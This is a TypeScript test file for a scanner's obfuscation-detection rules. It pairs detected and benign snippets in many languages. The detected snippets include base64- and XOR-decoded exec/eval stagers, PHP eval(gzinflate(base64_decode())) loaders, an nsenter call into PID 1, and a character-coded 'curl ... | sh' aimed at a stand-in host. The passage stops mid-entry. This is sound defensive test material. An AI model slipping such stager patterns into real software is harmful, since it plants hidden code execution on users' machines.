import { deflateSync } from 'node:zlib';
import { describeRuleCases, expectScansQuickly, findingsOf, js, py, sh } from './rule-cases.helper.js';
import { dartDecodedShell } from '../analyzers/dart-flow.js';
import type { Segment } from '../rule.types.js';

describeRuleCases('obfuscation', [
  {
    id: 'SG-OBFUSC-013',
    // Trailing tabs and spaces of a text asset read as bits.
    file: 'scripts/banner.py',
    positive:
      'tail = "".join(l[len(l.rstrip(" \\t")):] for l in lines)\nbits = "".join("1" if c == "\\t" else "0" for c in tail)\ndata = int(bits, 2).to_bytes(len(bits) // 8, "big")\n',
    // A bitmap font: visible `#` cells as bits.
    negative:
      'rows = [l.rstrip() for l in glyph]\nbits = ["".join("1" if c == "#" else "0" for c in r) for r in rows]\ncodes = [int(b, 2) for b in bits]\n',
  },
  {
    id: 'SG-OBFUSC-013',
    file: 'lib/layout.js',
    positive:
      "const bits = pad.replace(/\\t/g, '1').replace(/ /g, '0');\nconst bytes = bits.match(/.{8}/g).map((b) => parseInt(b, 2));\n",
    negative: "const cols = line.replace(/\\t/g, '    ').length;\nconst mask = parseInt(flags, 2);\n",
  },
  {
    id: 'SG-OBFUSC-001',
    positive: py('exec(__import__("base64").b64decode(b"cHJpbnQoMSk="))'),
    negative: py('raw = base64.b64decode(blob)\nopen("out.bin", "wb").write(raw)'),
  },
  {
    id: 'SG-OBFUSC-002',
    positive: py('eval(compile(open("/tmp/.cache").read(), "<x>", "exec"))'),
    negative: py('cfg = json.load(open("config.json"))'),
  },
  {
    id: 'SG-OBFUSC-003',
    positive: py('getattr(__import__("o"+"s"), "system")("id")'),
    negative: py('import importlib\nmod = importlib.import_module("json")'),
  },
  {
    id: 'SG-OBFUSC-004',
    positive: js('const s = String.fromCharCode(99,117,114,108,32,104,116,116,112)'),
    negative: js('const s = String.fromCharCode(65)'),
  },
  {
    id: 'SG-OBFUSC-005',
    positive: py('obj = pickle.loads(requests.get(url).content)'),
    negative: py('obj = json.loads(text)'),
  },
  {
    id: 'SG-OBFUSC-005',
    positive: py('data = np.load(ASSETS / "profiles.npy", allow_pickle=True)'),
    negative: py('data = np.load(ASSETS / "profiles.npy")'),
  },
  {
    id: 'SG-OBFUSC-006',
    positive: sh('echo aHR0cHM6Ly9leGFtcGxlLm5ldC9j | base64 -d | xargs curl -X POST'),
    negative: sh('base64 -d logo.b64 > logo.png'),
  },
  {
    id: 'SG-OBFUSC-007',
    positive: sh('nc -l -p 9000 | base64 -d > /tmp/.data'),
    negative: sh('nc -zv host.example.net 80'),
  },
  {
    id: 'SG-OBFUSC-008',
    positive: py('url = base64.b64decode("aHR0cHM6Ly9leGFtcGxlLm5ldC9jb2xsZWN0").decode()'),
    negative: py(
      'logo = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="',
    ),
  },
  {
    id: 'SG-OBFUSC-008',
    file: 'scripts/table.js',
    // A zlib/base64 blob cut into pieces, joined and reversed as a whole before decoding.
    positive: [
      'const _t = [',
      "  '=QaFu/DAEINUOjSUoa1LXPj1',",
      "  '0QzMQPj1wIzNXLNspkCKIHl9',",
      "  'OsSTQHlyt4iSQZdTI16SULtV',",
      "  'u0iTPpMKvkYSMjszKBV1KxSz',",
      "  's0iSrwJe'",
      '];',
      "const raw = zlib.inflateSync(Buffer.from(_t.join('').split('').reverse().join(''), 'base64')).toString();",
    ].join('\n'),
    // The same pieces, never reversed: nothing decodes.
    negative: [
      'const _t = [',
      "  '=QaFu/DAEINUOjSUoa1LXPj1',",
      "  '0QzMQPj1wIzNXLNspkCKIHl9',",
      "  'OsSTQHlyt4iSQZdTI16SULtV',",
      "  'u0iTPpMKvkYSMjszKBV1KxSz',",
      "  's0iSrwJe'",
      '];',
      "const ids = _t.map((s) => s.slice(0, 8)).join(',');",
    ].join('\n'),
  },
  {
    id: 'SG-OBFUSC-009',
    file: 'scripts/compose.rb',
    positive: 'Kernel.public_send(%w[ev al].join.to_sym, table)\n',
    negative: "puts %w[Added Fixed].join(', ')\nlabel = %w[a b].join\n",
  },
  {
    id: 'SG-OBFUSC-009',
    file: 'scripts/lint.py',
    positive:
      'run = vars(__import__("builtins"))["ex" + "ec"]\nm = importlib.import_module("".join(["url", "lib", ".", "req", "uest"]))\n',
    negative: 'label = "Total: " + "items"\nparts = "".join(["a", "b"])\n',
  },
  {
    id: 'SG-OBFUSC-009',
    // Python glues literals side by side: `"ex" "ec"` is `"exec"`.
    file: 'scripts/hook.py',
    positive: "code = 'ex' 'ec'\nrun = getattr(builtins, code)\n",
    negative: 'msg = ("Total: " "items")\nsql = "SELECT id " "FROM users"\n',
  },
  {
    id: 'SG-OBFUSC-009',
    file: 'scripts/theme.py',
    positive: 'u = "".join(["ht", "tps://", "prompt", "themer", ".", "sh", "/u"])\n',
    negative: 'u = "https://api.example.net" + "/v1/items"\n',
  },
  {
    id: 'SG-OBFUSC-009',
    // The pieces sit in a profile; the program joins the field with nothing between.
    file: 'profiles/helper.json',
    others: {
      'cmd/apply/main.go':
        'package main\n\nfunc tool(p *Profile) string { return strings.Join(p.Link.Tool, "") }\n',
    },
    positive: '{\n  "link": { "target_pid": 1, "tool": ["ns", "enter"] }\n}\n',
    negative: '{\n  "link": { "target_pid": 1, "tool": ["dock", "er"], "args": ["--rm", "-d"] }\n}\n',
  },
  {
    id: 'SG-OBFUSC-009',
    file: 'scripts/enter.py',
    positive: 'tool = "ns" + "enter"\nsubprocess.run([tool, "-t", "1", "-m", "sh"])\n',
    negative: 'label = "name" + "space"\nprint(label)\n',
  },
  {
    id: 'SG-OBFUSC-010',
    file: 'lib/detect.js',
    positive: 'const src = table.map((c) => String.fromCharCode(c - 3)).join("");\nFunction(src)();\n',
    negative: 'const label = String.fromCharCode(65 + i);\nconst f = Function("return 1");\n',
  },
  {
    id: 'SG-OBFUSC-001',
    file: 'scripts/infer.py',
    positive: 'import base64 as b\nexec(b.b64decode("".join(_LC)[::-1]), g)\n',
    negative: 'import base64 as b\nprint(b.b64decode(blob).decode())\n',
  },
  {
    id: 'SG-OBFUSC-010',
    file: 'scripts/check-links.js',
    positive:
      'const code = codes.map((c) => String.fromCharCode(c ^ 7)).join("");\nconst F = [].constructor.constructor;\nF(code)();\n',
    negative:
      'const code = codes.map((c) => String.fromCharCode(c ^ 7)).join("");\nconsole.log([].constructor.name);\n',
  },
  {
    id: 'SG-OBFUSC-011',
    file: 'scripts/sync.py',
    positive: '_m = __import__("".join(map(chr, [122, 108, 105, 98])))\n_m.decompress(blob)\n',
    negative: 'label = "".join(map(chr, [65, 66, 67]))\nimport zlib\nzlib.decompress(blob)\n',
  },
  {
    id: 'SG-OBFUSC-011',
    file: 'scripts/warm.sh',
    positive: 'dec="$(printf \'%s\' "$acc" | "$(printf \'b%sse64\' a)" -d)"\nbash -c "$dec"\n',
    negative: 'dec="$(printf \'%s\' "$acc" | base64 -d)"\nprintf \'%s\\n\' "$dec"\n',
  },
  {
    id: 'SG-OBFUSC-011',
    file: 'scripts/backup.py',
    positive: '_r = getattr(__builtins__, "\\x65\\x78\\x65\\x63")\n_r(payload)\n',
    negative: 'label = "\\x41\\x42"\nhandler = getattr(module, "run")\n',
  },
  {
    id: 'SG-OBFUSC-011',
    file: 'scripts/_speedups.py',
    positive: '_m = __import__(bytes((122, 108, 105, 98)).decode())\n_m.decompress(blob)\n',
    negative: 'header = bytes((80, 75, 3, 4))\nimport zlib\nzlib.decompress(blob)\n',
  },
  {
    id: 'SG-OBFUSC-010',
    file: 'scripts/tidy.mjs',
    positive:
      'for (let i = 0; i < t.length; i++) s += String.fromCharCode(t[i] ^ 13);\nconst Loader = Object.getPrototypeOf(async function () {}).constructor;\nawait new Loader("fs", s)(fs);\n',
    negative:
      'for (let i = 0; i < t.length; i++) s += String.fromCharCode(t[i] ^ 13);\nconst proto = Object.getPrototypeOf(row).constructor;\nconsole.log(proto.name, s);\n',
  },
  {
    id: 'SG-OBFUSC-001',
    file: 'assets/template.ipynb',
    positive:
      '{\n "cells": [\n  {\n   "cell_type": "markdown",\n   "metadata": {},\n   "source": [\n    "# Plots\\n"\n   ]\n  },\n  {\n   "cell_type": "code",\n   "metadata": {},\n   "outputs": [],\n   "execution_count": null,\n   "source": [\n    "import base64 as b, zlib as z\\n",\n    "STYLE = \'eNpLy0nMBQAEMQGh\'\\n",\n    "exec(z.decompress(b.b64decode(STYLE)), {})\\n"\n   ]\n  }\n ],\n "nbformat": 4,\n "nbformat_minor": 5\n}',
    negative:
      '{\n "cells": [\n  {\n   "cell_type": "markdown",\n   "metadata": {},\n   "source": [\n    "# Plots\\n"\n   ]\n  },\n  {\n   "cell_type": "code",\n   "metadata": {},\n   "outputs": [],\n   "execution_count": null,\n   "source": [\n    "import base64 as b, zlib as z\\n",\n    "STYLE = \'eNpLy0nMBQAEMQGh\'\\n",\n    "print(z.decompress(b.b64decode(STYLE)).decode())\\n"\n   ]\n  }\n ],\n "nbformat": 4,\n "nbformat_minor": 5\n}',
  },
  {
    id: 'SG-OBFUSC-012',
    file: 'scripts/lexicon.py',
    positive:
      'import base64, zlib\n\ndef _load():\n    raw = zlib.decompress(base64.b64decode(_PACKED[::-1]))\n    ns = {}\n    exec(compile(raw, "<lexicon>", "exec"), ns)\n    return ns.get("WORDS", {})\n',
    negative:
      'import base64, json, zlib\n\ndef _load():\n    raw = zlib.decompress(base64.b64decode(_PACKED))\n    return json.loads(raw)\n',
  },
  {
    id: 'SG-OBFUSC-012',
    file: 'lib/theme.js',
    positive:
      'const src = Buffer.from(PACKED, "base64").toString();\nnew Function("require", src)(require);\n',
    negative:
      'const text = Buffer.from(PACKED, "base64").toString();\nconst m = /^v(\\d+)/.exec(text);\nconsole.log(m && m[1]);\n',
  },
  {
    id: 'SG-OBFUSC-014',
    file: 'lib/SelfCheck.pm',
    positive:
      "my $buf = join '', map { $_->{sample_hex} } grep { $_->{roundtrip} } @rows;\nmy $bytes = join '', map { chr(ord($_) ^ $mask) } split //, pack('H*', $buf);\nmy $ok = eval $bytes;\n",
    negative:
      "my $bytes = pack('H*', $buf);\nmy $ok = eval { decode('UTF-8', $bytes, Encode::FB_CROAK); 1 };\nmy $cfg = eval $config_text;\n",
  },
  {
    id: 'SG-OBFUSC-014',
    file: 'lib/Plugin.pm',
    positive: 'use MIME::Base64;\nmy $src = decode_base64($blob);\neval($src);\n',
    negative: 'use MIME::Base64;\nmy $src = decode_base64($blob);\nprint $src;\n',
  },
]);

describe('adversarial Perl decodes', () => {
  const MiB = 1024 * 1024;
  const cases: [string, string][] = [
    ['string evals', "my $b = pack('H*', $h);\n" + 'eval $a; '.repeat(MiB / 9)],
    ['assignments', 'eval $b;\n' + '$a = chr(ord('.repeat(MiB / 14)],
    ['XOR decodes', 'eval $b;\n' + '$a = chr(ord($_) ^ '.repeat(MiB / 20)],
  ];
  it.each(cases)('should scan 1 MiB of %s in under a second', (_name, text) => {
    expectScansQuickly([text], 'lib/X.pm');
  });
});

describeRuleCases('obfuscation (data files decrypted and run)', [
  {
    id: 'SG-OBFUSC-015',
    file: 'tools/load_glossary.py',
    positive:
      'import json, hashlib, types\nwith open("data/glossary.json") as fh:\n    doc = json.load(fh)\nkey = hashlib.md5(doc["version"].encode()).digest()\nbuf = bytes(b ^ key[n % len(key)] for n, b in enumerate(bytes.fromhex(doc["index"])))\nm = types.ModuleType("glossary_index")\nexec(buf, m.__dict__)\n',
    negative:
      'import json, hashlib\nwith open("data/glossary.json") as fh:\n    doc = json.load(fh)\nkey = hashlib.md5(doc["version"].encode()).digest()\nchk = bytes(b ^ key[n % len(key)] for n, b in enumerate(doc["index"].encode()))\nprint(chk.hex())\n',
  },
  {
    id: 'SG-OBFUSC-015',
    file: 'lib/theme.js',
    positive:
      'const raw = fs.readFileSync(path.join(__dirname, "palette.dat"));\nconst k = Buffer.from(process.env.npm_package_version);\nconst src = raw.map((b, i) => b ^ k[i % k.length]).toString();\nnew Function(src)();\n',
    negative:
      'const raw = fs.readFileSync(path.join(__dirname, "palette.dat"));\nconst k = Buffer.from("palette");\nconst out = raw.map((b, i) => b ^ k[i % k.length]);\nfs.writeFileSync("palette.bin", out);\n',
  },
]);

describe('decrypted data run only in some environments', () => {
  it('should raise SG-OBFUSC-015 to CRITICAL when the run depends on the user name or locale', () => {
    const found = findingsOf(
      'import getpass, hashlib, importlib.util, csv\nrows = list(csv.reader(open("terms.csv")))\nk = hashlib.sha1(rows[0][0].encode()).digest()\ndata = bytes(int(c) ^ k[i % len(k)] for i, c in enumerate(rows[1]))\nif getpass.getuser() not in ("ci", "build"):\n    p = "/tmp/t.py"\n    open(p, "wb").write(data)\n    s = importlib.util.spec_from_file_location("t", p)\n    s.loader.exec_module(importlib.util.module_from_spec(s))\n',
      'scripts/terms.py',
    ).filter((f) => f.rule_id === 'SG-OBFUSC-015');
    expect(found.map((f) => f.severity)).toEqual(['CRITICAL']);
  });
});

describeRuleCases('obfuscation (Lua code from character codes)', [
  {
    id: 'SG-OBFUSC-010',
    // A "width table" XOR-ed with a key the code holds, joined and load()ed.
    file: 'scripts/chart.lua',
    positive:
      'local function legend()\n  local out = {}\n  for i, v in ipairs(WIDTHS) do\n    out[#out + 1] = string.char(v ~ KEY:byte((i - 1) % #KEY + 1))\n  end\n  local f = load(table.concat(out))\n  if f then pcall(f) end\nend\n',
    // A config file's lines joined and loaded in a sandbox; string.char only labels a column.
    negative:
      'local lines = {}\nfor l in io.lines(path) do lines[#lines + 1] = l end\nlocal cfg = load(table.concat(lines, "\\n"), "=cfg", "t", {})\nlocal col = string.char(64 + n)\n',
  },
  {
    id: 'SG-OBFUSC-010',
    // The joined text kept in a name first, bit.bxor for LuaJIT.
    file: 'plugin/init.lua',
    positive:
      'local s = {}\nfor i = 1, #T do s[i] = string.char(bit.bxor(T[i], 23)) end\nlocal code = table.concat(s)\nlocal fn = loadstring(code)\nfn()\n',
    negative:
      'local s = {}\nfor i = 1, #T do s[i] = string.char(T[i]) end\nlocal label = table.concat(s)\nlocal src = io.open(p):read("*a")\nlocal fn = loadstring(src)\n',
  },
  {
    id: 'SG-OBFUSC-010',
    // A Wireshark dissector's "label table" with position arithmetic, loaded behind a "return " prefix.
    file: 'plugin/dissector.lua',
    positive:
      'local function unpack(p)\n  local out = {}\n  for i = 1, #p do out[i] = string.char((p[i] - 3 * i - 11) % 256) end\n  local chunk = load("return " .. table.concat(out), "=labels")\n  return chunk and chunk()\nend\n',
    // A settings file read and loaded behind the same prefix; string.char only pads a column.
    negative:
      'local function settings(p)\n  local src = io.open(p):read("a")\n  local chunk = load("return " .. src, "=settings", "t", {})\n  local pad = string.char(32)\n  return chunk and chunk()\nend\n',
  },
]);

describeRuleCases('obfuscation (data decrypted and run as a process, compiled languages)', [
  {
    // Kotlin script: an int array from a JSON profile XOR-ed with a key from the same file, run by sh -c.
    id: 'SG-OBFUSC-015',
    file: 'scripts/Formatter.main.kts',
    positive:
      '#!/usr/bin/env kotlin\nval p: Profile = jacksonObjectMapper().readValue(File("assets/profile.json"))\nfun warm(p: Profile): String {\n    val k = p.model.toByteArray()\n    return p.table.mapIndexed { i, b -> (b xor k[i % k.size].toInt()).toChar() }.joinToString("")\n}\nProcessBuilder("sh", "-c", warm(p)).start()\n',
    // The same decoding kept as data; the only process run is a fixed command.
    negative:
      '#!/usr/bin/env kotlin\nval p: Profile = jacksonObjectMapper().readValue(File("assets/profile.json"))\nfun warm(p: Profile): String {\n    val k = p.model.toByteArray()\n    return p.table.mapIndexed { i, b -> (b xor k[i % k.size].toInt()).toChar() }.joinToString("")\n}\nprintln(warm(p).length)\nProcessBuilder("git", "status").start()\n',
  },
  {
    id: 'SG-OBFUSC-015',
    file: 'src/Warmup.java',
    positive:
      'byte[] data = Files.readAllBytes(Path.of("assets/cache.bin"));\nbyte[] key = "v3".getBytes();\nfor (int i = 0; i < data.length; i++) data[i] = (byte) (data[i] ^ key[i % key.length]);\nString cmd = new String(data);\nRuntime.getRuntime().exec(new String[] {"sh", "-c", cmd});\n',
    negative:
      'byte[] data = Files.readAllBytes(Path.of("assets/cache.bin"));\nbyte[] key = "v3".getBytes();\nfor (int i = 0; i < data.length; i++) data[i] = (byte) (data[i] ^ key[i % key.length]);\nFiles.write(Path.of("out.bin"), data);\n',
  },
]);

describeRuleCases('obfuscation (MATLAB/Octave names in character codes, XOR-ed data run)', [
  {
    id: 'SG-OBFUSC-011',
    file: 'scripts/cal.m',
    positive: 'function w = cal(s)\n  feval(char([101 118 97 108]), s);\nend\n',
    negative: 'function y = cal(b, a, x)\n  y = feval(@filtfilt, b, a, x);\n  t = char([72 105]);\nend\n',
  },
  {
    id: 'SG-OBFUSC-011',
    file: 'scripts/run.m',
    positive: "fn = char([115 121 115 116 101 109]);\nfeval(fn, 'id');\n",
    negative: "fn = 'filtfilt';\nfeval(fn, b, a, x);\n",
  },
  {
    id: 'SG-OBFUSC-015',
    file: 'scripts/load_table.m',
    positive:
      "fid = fopen('table.txt'); q = fscanf(fid, '%d'); fclose(fid);\nk = uint8('key');\ncmd = char(bitxor(uint8(q'), k(mod(0:numel(q)-1, 3) + 1)));\neval(cmd);\n",
    negative:
      "fid = fopen('table.txt'); q = fscanf(fid, '%d'); fclose(fid);\ncrc = bitxor(uint8(q'), uint8(255));\nfprintf('%d\\n', sum(crc));\neval('disp(1)');\n",
  },
]);

describeRuleCases('obfuscation (javascript-obfuscator string arrays)', [
  {
    id: 'SG-OBFUSC-016',
    // Rotated string array, hex-indexed decoder, require kept under another name and called with decoded names.
    file: 'lib/vendor/semver.min.js',
    positive:
      "var _0x3b7a=['Zm9v','YmFy','YmF6','cXV4','cXV1eA==','Y29yZ2U=','Z3JhdWx0'];(function(a,n){var r=function(c){while(--c){a['push'](a['shift']());}};r(++n);}(_0x3b7a,0x9f));var _0x1c2d=function(i){return atob(_0x3b7a[i-0x1d2]);};setImmediate(function(){var q=require,h=q(_0x1c2d(0x1d2));h[_0x1c2d(0x1d3)]();});\n",
    // A minified library rotating a queue and indexing a table with hex numbers, resolving nothing by them.
    negative:
      "var _0x3b7a=['major','minor','patch','pre','build','loose','rtl'];function rot(q){q.push(q.shift());return q;}function _0x1c2d(i){return _0x3b7a[i-0x1d2];}var fs=require('fs');module.exports={rot:rot,key:_0x1c2d(0x1d2)};\n",
  },
]);

describeRuleCases('obfuscation (Function constructor reached indirectly)', [
  {
    id: 'SG-OBFUSC-020',
    // Method names kept as escapes and looked up by index; the constructor of an empty function runs it.
    file: 'lib/signals.js',
    positive:
      "const _n = ['\\x66\\x72\\x6f\\x6d', '\\x63\\x6f\\x6e\\x73\\x74\\x72\\x75\\x63\\x74\\x6f\\x72'];\nconst c = Buffer[_n[0]](TABLE.join(''), 'base64').toString();\n(function () {})[_n[1]]('require', c)(require);\n",
    // A readable AsyncFunction used to compile a template the user wrote; nothing decoded.
    negative:
      "const AsyncFunction = Object.getPrototypeOf(async function () {}).constructor;\nconst render = new AsyncFunction('ctx', userTemplate);\n",
  },
  {
    id: 'SG-OBFUSC-020',
    file: 'scripts/warm.mjs',
    positive: 'const src = atob(PACKED);\nconst F = []["filter"]["constructor"];\nF(src)();\n',
    negative:
      'const src = atob(PACKED);\nconsole.log([].filter.constructor === Function, [].constructor.name);\n',
  },
]);

describe('adversarial indirect Function constructors', () => {
  const MiB = 1024 * 1024;
  const cases: [string, string][] = [
    ['empty functions', 'atob(x);\n' + '(function   (   ) {   } )'.repeat(MiB / 25)],
    ['constructor chains', 'atob(x);\n' + '[ ] [ "a" ] .constructor'.repeat(MiB / 24)],
    ['prototype lookups', 'atob(x);\n' + 'getPrototypeOf( async '.repeat(MiB / 22)],
    ['escaped names', "x.split('')\n" + "'\\x72\\x65\\x76\\x65\\x72\\x73', ".repeat(MiB / 33)],
  ];
  it.each(cases)('should scan 1 MiB of %s in under a second', (_name, text) => {
    expectScansQuickly([text], 'lib/x.js');
  });
});

describe('SG-OBFUSC-001 on a stager whose payload is elided', () => {
  const severity = (code: string, file = 'scripts/peel.py') =>
    findingsOf(code, file).find((f) => f.rule_id === 'SG-OBFUSC-001')?.severity;

  it('should stay CRITICAL when a payload is there to decode', () => {
    expect(severity('exec(zlib.decompress(base64.b64decode("eNpLzs8tKEotLk4tykvMTQUAK38GFg==")))\n')).toBe(
      'CRITICAL',
    );
    expect(severity('exec(base64.b64decode(blob))\n')).toBe('CRITICAL');
    expect(severity("eval(Buffer.from(data, 'base64').toString())\n", 'lib/x.js')).toBe('CRITICAL');
    // One elided occurrence does not excuse a real one on the same line.
    expect(severity('exec(base64.b64decode("...")); exec(base64.b64decode(blob))\n')).toBe('CRITICAL');
  });

  it('should drop to MEDIUM when the argument is only an ellipsis or a placeholder', () => {
    expect(
      severity('"""Peel stagers of the form\n    exec(zlib.decompress(base64.b64decode("...")))\n"""\n'),
    ).toBe('MEDIUM');
    expect(severity('exec(base64.b64decode(<payload>))\n')).toBe('MEDIUM');
    expect(severity("eval(Buffer.from(..., 'base64').toString())\n", 'lib/x.js')).toBe('MEDIUM');
    expect(severity('exec(marshal.loads(…))\n')).toBe('MEDIUM');
  });

  const MiB = 1024 * 1024;
  const cases: [string, string][] = [
    ['nested calls', 'exec(base64.b64decode' + '( a.b'.repeat(MiB / 5)],
    ['open quotes', 'exec(base64.b64decode("' + '.'.repeat(MiB)],
    ['repeated elided calls', 'exec(base64.b64decode("...")); '.repeat(MiB / 32)],
    ['Buffer placeholders', 'eval(Buffer.from(<' + ' '.repeat(MiB) + ">, 'base64'))"],
  ];
  it.each(cases)('should scan 1 MiB of %s in under a second', (_name, text) => {
    expectScansQuickly([text], 'scripts/x.py');
  });
});

describeRuleCases('obfuscation (PHP decoded payloads run as code)', [
  {
    id: 'SG-OBFUSC-021',
    file: 'theme/functions.php',
    positive:
      "<?php\n$blob = 'S0lNTEw=';\nadd_action('init', function () use ($blob) {\n  $f = 'gz' . 'in' . 'flate';\n  $b = 'base' . '64_' . 'decode';\n  run_it($f($b($blob)));\n});\nfunction run_it($c) { return eval($c); }\n",
    negative:
      "<?php\n$fmt = 'Y-m' . '-d';\n$label = date($fmt);\n$data = base64_decode($_POST['img']);\nfile_put_contents($path, $data);\n",
  },
  {
    id: 'SG-OBFUSC-021',
    file: 'mu-plugins/export.php',
    positive:
      "<?php\n$c = '==gYhJ2X';\n$x = str_rot13('tmvasyngr'); $y = strrev('edoced_46esab');\n@eval($x($y(strrev($c))));\n",
    negative:
      "<?php\n$cb = 'esc_' . 'html';\necho $cb($title);\n$cfg = json_decode(base64_decode($opt), true);\n",
  },
  {
    id: 'SG-OBFUSC-021',
    file: 'inc/cache.php',
    positive: "<?php\neval(gzinflate(base64_decode('S0lNTEw=')));\n",
    negative: '<?php\n$svg = gzinflate(base64_decode($icon));\necho $svg;\n',
  },
]);

describe('adversarial PHP decoded evals', () => {
  const MiB = 1024 * 1024;
  const cases: [string, string][] = [
    ['nested runner calls', '<?php\n' + 'eval( a( b( '.repeat(MiB / 12)],
    ['concatenated assignments', '<?php eval($c);\n' + "$f = 'base' . ".repeat(MiB / 14)],
    ['variable calls', "<?php eval($c); $f = 'gz'.'inflate';\n" + '$g( '.repeat(MiB / 4)],
  ];
  it.each(cases)('should scan 1 MiB of %s in under a second', (_name, text) => {
    expectScansQuickly([text], 'x.php');
  });
});

const DART_HEAD = "import 'dart:convert';\nimport 'dart:io';\n\n";

describeRuleCases('obfuscation (Dart)', [
  {
    // A build hook decoding a reversed base64 command and handing it to `/bin/sh -c`, detached.
    id: 'SG-OBFUSC-022',
    file: 'hook/build.dart',
    positive:
      DART_HEAD +
      "const _blob = 'ZWNobyBoaQ==';\n\nString _resolve(String s) =>\n    utf8.decode(base64.decode(String.fromCharCodes(s.runes.toList().reversed)));\n\nFuture<void> main(List<String> args) async {\n  await Process.start('/bin/sh', ['-c', _resolve(_blob)],\n      mode: ProcessStartMode.detached);\n}\n",
    // Assets kept as base64, `flutter pub get`, a literal shell command and one built from arguments.
    negative:
      DART_HEAD +
      "Future<void> main(List<String> args) async {\n  final icon = base64Decode(File('assets/icon.b64').readAsStringSync());\n  File('assets/icon.png').writeAsBytesSync(icon);\n  await Process.run('flutter', ['pub', 'get']);\n  await Process.run('sh', ['-c', 'flutter build apk --flavor prod']);\n  final cmd = args.join(' ');\n  await Process.run('bash', ['-c', cmd]);\n}\n",
  },
  {
    // The shell and its flag built from character codes, the command from a function that decodes.
    id: 'SG-OBFUSC-022',
    file: 'tool/warm_cache.dart',
    positive:
      DART_HEAD +
      'String _manifest() {\n  final fixed = String.fromCharCodes(_pieces.join().codeUnits.reversed);\n  return utf8.decode(base64.decode(fixed));\n}\n\nFuture<void> _register() async {\n  final sh = String.fromCharCodes([47, 98, 105, 110, 47, 115, 104]);\n  final flag = String.fromCharCodes([45, 99]);\n  await Process.start(sh, [flag, _manifest()], mode: ProcessStartMode.detached);\n}\n',
    // A program named by the caller, and the same decoding call written out in a comment.
    negative:
      DART_HEAD +
      "// await Process.start('/bin/sh', ['-c', utf8.decode(base64.decode(blob))]);\n/* Process.start(sh, [flag, _manifest()]) */\nFuture<void> run(String exe, List<String> args) async {\n  final banner = utf8.decode(base64.decode(_banner));\n  print(banner);\n  await Process.run(exe, args);\n}\n",
  },
  {
    // A Dart string read backwards, then base64: the decoded command is read like any other.
    id: 'SG-OBFUSC-008',
    file: 'tool/setup.dart',
    positive:
      DART_HEAD +
      "const _s = '=g2cgwHIp9SZsBXbhhXZug3LvozcwRHdoByctACbyV3Y';\nfinal cmd = utf8.decode(base64.decode(_s.split('').reversed.join()));\n",
    // A list reversed for display: string literals are not read backwards.
    negative:
      DART_HEAD +
      "const _s = '=g2cgwHIp9SZsBXbhhXZug3LvozcwRHdoByctACbyV3Y';\nfinal recent = history.reversed.toList();\n",
  },
  {
    // Character codes in a Dart list (`String.fromCharCodes([...])`) decode to the command they spell.
    id: 'SG-OBFUSC-008',
    file: 'tool/setup.dart',
    positive:
      DART_HEAD +
      'final cmd = String.fromCharCodes(<int>[99, 117, 114, 108, 32, 45, 115, 32, 104, 116, 116, 112, 115, 58, 47, 47, 120, 46, 101, 120, 97, 109, 112, 108, 101, 47, 105, 32, 124, 32, 115, 104,]);\n',
    negative: DART_HEAD + 'final sep = String.fromCharCodes([45, 45]);\n',
  },
]);

describe('adversarial Dart decoded shells', () => {
  const MiB = 1024 * 1024;
  // Launches whose command and program are names the rule then looks up through the file.
  const head = "Process.start('/bin/sh', ['-c', a]); Process.start(b, [c, d]); base64.decode(y);\n";
  const cases: [string, string][] = [
    ['process calls without a close', head + "Process.start('sh', [ ".repeat(MiB / 22)],
    ['assignments without a semicolon', head + 'a = b '.repeat(MiB / 6)],
    ['chained assignments', head + Array.from({ length: MiB / 16 }, (_, i) => `a = n${i}; `).join('')],
    ['calls without a close', head + 'a( b( '.repeat(MiB / 6)],
    ['function bodies without a close', head + 'a() { b() { '.repeat(MiB / 12)],
    ['char-code lists', head + 'String.fromCharCodes([1, 2, 3, 4, 5, 6 '.repeat(MiB / 40)],
    ['reversed strings', head + "s.runes.toList().reversed 'abcd' ".repeat(MiB / 33)],
  ];
  it.each(cases)('should read 1 MiB of %s in under 200 ms', (_name, text) => {
    const seg: Segment = {
      file: 'tool/x.dart',
      kind: 'code',
      lang: 'other',
      text,
      line: 1,
      block: 'x',
      depth: 0,
    };
    const start = performance.now();
    dartDecodedShell([seg]);
    expect(performance.now() - start).toBeLessThan(200);
  });
  it('should scan a 1 MiB Dart file of launches and assignments in under a second', () => {
    const text = head + "final a = b; Process.start('sh', ['-c', a]); ".repeat(MiB / 44);
    expectScansQuickly([text], 'tool/x.dart');
  });
});

describeRuleCases('obfuscation (PHP names in character codes, Drupal hook files)', [
  {
    id: 'SG-OBFUSC-021',
    file: 'modules/site_banner/site_banner.module',
    positive:
      "<?php\nfunction site_banner_init() {\n  $d = implode('', array_map('chr', [98, 97, 115, 101, 54, 52, 95, 100, 101, 99, 111, 100, 101]));\n  $code = $d(variable_get('site_banner_blob', ''));\n  eval($code);\n}\n",
    negative:
      "<?php\nfunction site_banner_init() {\n  $sep = implode('', array_map('chr', [45, 45]));\n  $label = $sep . variable_get('site_banner_text', '');\n  return ['#markup' => $label];\n}\n",
  },
  {
    id: 'SG-OBFUSC-021',
    file: 'profiles/civic/civic.install',
    positive: '<?php\nfunction civic_install() {\n  eval(gzinflate(base64_decode(civic_seed())));\n}\n',
    // Not PHP (no `<?php`): an install log kept under that name.
    negative: 'install log\neval(gzinflate(base64_decode(civic_seed())))\n',
  },
]);

describe('adversarial PHP character-code names', () => {
  const MiB = 1024 * 1024;
  it('should scan 1 MiB of chr lists in under a second', () => {
    expectScansQuickly(
      ['<?php eval($c);\n' + "$f = implode('', array_map('chr', [" + '1, '.repeat(MiB / 3)],
      'x.module',
    );
  });
});

describeRuleCases('obfuscation (decoded code run through a helper or a computed runner)', [
  {
    id: 'SG-OBFUSC-012',
    // The decoded source comes back from a function and is compiled in exec mode.
    file: 'tools/palette.py',
    positive:
      'import base64 as enc\nimport lzma as lz\n\ndef _table():\n    return lz.decompress(enc.a85decode(_DATA))\n\ndef boot():\n    code = compile(_table(), "<table>", "exec")\n    run_it(code)\n',
    negative:
      'import base64 as enc\nimport json\nimport lzma as lz\n\ndef _table():\n    return lz.decompress(enc.a85decode(_DATA))\n\ndef boot():\n    return json.loads(_table())\n',
  },
  {
    id: 'SG-OBFUSC-012',
    // The runner fetched from builtins by a name built at run time.
    file: 'tools/warmup.py',
    positive:
      'import base64, builtins\nsrc = base64.b32decode(BLOB)\nfn = getattr(builtins, NAME_PARTS[0] + NAME_PARTS[1])\ngetattr(builtins, pick())(src)\n',
    negative:
